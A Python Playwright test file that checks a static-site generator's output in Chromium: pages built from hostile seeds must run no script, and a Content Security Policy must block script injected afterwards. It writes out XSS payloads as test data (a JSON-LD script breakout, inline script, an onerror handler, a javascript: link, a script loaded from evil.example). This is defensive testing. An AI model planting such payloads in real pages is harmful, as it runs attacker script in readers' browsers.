"""In Chromium: no script from a seed runs, over http and from disk (file://).

Every page of the built hostile corpus is loaded and the events inline
handlers listen to (``mouseover``, ``focus`` ...) are fired on every element;
no dialog may open, the seeds' sentinel ``window.__pwned`` must stay
undefined, and no request may leave 127.0.0.1.  Then the Content Security
Policy is tested on its own: script injected into a page after the build (as
if the sanitiser had slipped) must still not run.
"""

from __future__ import annotations

import shutil

from tests.browser.conftest import StaticSite, file_url

from .conftest import run_in_chromium

SENTINELS = "[typeof window.__pwned, typeof window.pwned]"
CLEAN = ["undefined", "undefined"]
#: Fire the events inline handlers listen to, on every element, as a reader's mouse would.
PROVOKE = """() => {
  for (const element of document.querySelectorAll("body *")) {
    for (const type of ["mouseover", "mouseenter", "focus", "animationstart", "toggle"]) {
      element.dispatchEvent(new Event(type, {bubbles: true}));
    }
  }
}"""


def schemes(hostile_build, hostile_http):
    """``relative path -> URL`` over http, then from disk."""
    return {
        "http": hostile_http.url,
        "file": lambda relative: file_url(hostile_build.output, relative),
    }


def watched_page(new_page):
    """A page that records dialogs and failed requests besides the usual watch."""
    page, watch = new_page()
    dialogs: list[str] = []
    failed: list[str] = []

    def on_dialog(dialog):
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("requestfailed", lambda r: failed.append(f"{r.url}: {r.failure}"))
    return page, watch, dialogs, failed


def test_no_seed_script_runs_on_any_page(hostile_build, hostile_http):
    pages = sorted(
        p.relative_to(hostile_build.output).as_posix() for p in hostile_build.output.rglob("*.html")
    )
    assert len(pages) > 40

    def work(new_page):
        for scheme, open_hostile in schemes(hostile_build, hostile_http).items():
            page, watch, dialogs, _ = watched_page(new_page)
            problems = []
            for relative in pages:
                page.goto(open_hostile(relative), wait_until="load")
                page.evaluate(PROVOKE)
                state = page.evaluate(SENTINELS)
                if state != CLEAN:
                    problems.append((relative, state))
            assert problems == [], scheme
            assert dialogs == [], scheme
            assert watch.page_errors == [], scheme
            assert watch.foreign_requests == [], scheme
            assert not [e for e in watch.console_errors if "Content Security Policy" in e], (
                f"nothing on a built page even tried to run inline script ({scheme})"
            )

    run_in_chromium(work)


def test_hostile_text_is_shown_as_text(hostile_build, hostile_http):
    def work(new_page):
        for scheme, open_hostile in schemes(hostile_build, hostile_http).items():
            page, _, dialogs, _ = watched_page(new_page)
            page.goto(open_hostile("2020/10/jsonld-breakout.html"), wait_until="load")
            heading = page.locator("article h1").inner_text()
            assert heading == "</script><script>window.__pwned='jsonld'</script><!-- Breakout"
            assert page.evaluate(SENTINELS) == CLEAN, scheme
            data = page.evaluate(
                "[...document.querySelectorAll('script[type=\"application/ld+json\"]')]"
                ".map(s => JSON.parse(s.textContent))"
            )
            assert any(block.get("headline") == heading for block in data), scheme
            page.goto(open_hostile("2020/10/template-injection.html"), wait_until="load")
            heading = page.locator("article h1").inner_text()
            assert heading.startswith("{{ 7") and "49" not in heading, "templates stay text"
            assert dialogs == [], scheme

    run_in_chromium(work)


def test_the_policy_blocks_script_that_slips_into_a_page(hostile_build, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(hostile_build.output, site)
    target = site / "2020/10/xss-body.html"
    html = target.read_text("utf-8")
    slipped = (
        "<script>window.__pwned='inline'</script>"
        '<img src="data:,x" onerror="window.__pwned=\'handler\'">'
        '<a id="js" href="javascript:window.__pwned=\'href\'">js</a>'
        '<script src="https://evil.example/x.js"></script>'
    )
    target.write_text(html.replace("<main", slipped + "<main", 1), "utf-8")
    server = StaticSite(site)

    def work(new_page):
        for url in (server.url("2020/10/xss-body.html"), file_url(site, "2020/10/xss-body.html")):
            page, watch, dialogs, failed = watched_page(new_page)
            page.goto(url, wait_until="load")
            page.locator("#js").click()
            page.wait_for_timeout(100)
            assert page.evaluate(SENTINELS) == CLEAN, url
            assert dialogs == []
            blocked = [e for e in watch.console_errors if "Content Security Policy" in e]
            assert blocked, f"the policy reported what it blocked ({url})"
            leaked = [r for r in watch.foreign_requests if "evil.example" in r]
            assert all(f"{r}: csp" in failed for r in leaked), (leaked, failed)

    try:
        run_in_chromium(work)
    finally:
        server.close()
